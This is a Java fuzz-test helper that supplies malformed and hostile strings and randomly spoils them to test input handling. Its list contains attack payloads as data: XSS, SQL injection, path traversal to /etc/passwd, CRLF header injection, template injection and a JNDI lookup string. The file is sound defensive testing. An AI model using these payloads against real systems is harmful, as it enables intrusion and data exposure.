package fi.kuule.tests.fuzz;

import java.util.List;
import java.util.random.RandomGenerator;

/** Texts that somebody may send who means no good, or whose keyboard does not. */
final class OddText {
    /** Comes back only in a form in which a browser sees text. */
    static final String MARKER = "<kuule\"'&>";

    private static final List<String> TEXTS = List.of(
            MARKER,
            "<script>alert(1)</script>" + MARKER,
            "\"><img src=x onerror=alert(1)>" + MARKER,
            "</textarea>" + MARKER,
            "",
            " ",
            "\u0000",
            "a\u0000b",
            "\u0001\u0008\u000b\u001b[31m\u007f\u0085",
            "\u202Etxet\u202C \u2066x\u2069",
            "\uFEFF\u200B\u200D",
            "👩‍👩‍👧‍👦 🇫🇮 👍🏽 ❤️",
            "\uD83D",
            "\uDE00\uD83D",
            "Z̵̡͠a̴l̷g̶o̸",
            "\r\nX-Injected: 1\r\n\r\n",
            "%0d%0aX-Injected:%201",
            "%00",
            "%2e%2e%2f",
            "%252e%252e%252f",
            "..;/",
            "../../etc/passwd",
            "%",
            "%zz%u0041",
            "+",
            "٣",
            "-0",
            "1e1",
            "9\n",
            "10.0",
            "0x9",
            "NaN",
            "null",
            "{{7*7}}${7*7}#{7*7}",
            "${jndi:ldap://kuule.example/x}",
            "' OR '1'='1",
            "=1+1",
            "a,b;c=d&e",
            "x".repeat(41),
            "x".repeat(10_001),
            "€".repeat(10_000),
            "x".repeat(140_000),
            "[".repeat(3_000));

    private OddText() {}

    static String any(RandomGenerator random) {
        return random.nextInt(4) == 0 ? noise(random) : TEXTS.get(random.nextInt(TEXTS.size()));
    }

    /** The text with something odd in it, or something of it gone. */
    static String spoilt(String text, RandomGenerator random) {
        int at = random.nextInt(text.length() + 1);
        return switch (random.nextInt(4)) {
            case 0 -> text + any(random);
            case 1 -> text.substring(0, at) + any(random) + text.substring(at);
            case 2 -> text.substring(0, at);
            default -> text.toUpperCase(java.util.Locale.ROOT);
        };
    }

    private static String noise(RandomGenerator random) {
        StringBuilder noise = new StringBuilder();
        for (int i = random.nextInt(30); i > 0; i--)
            noise.append((char) (random.nextBoolean() ? random.nextInt(128) : random.nextInt(0x10000)));
        return noise.toString();
    }
}
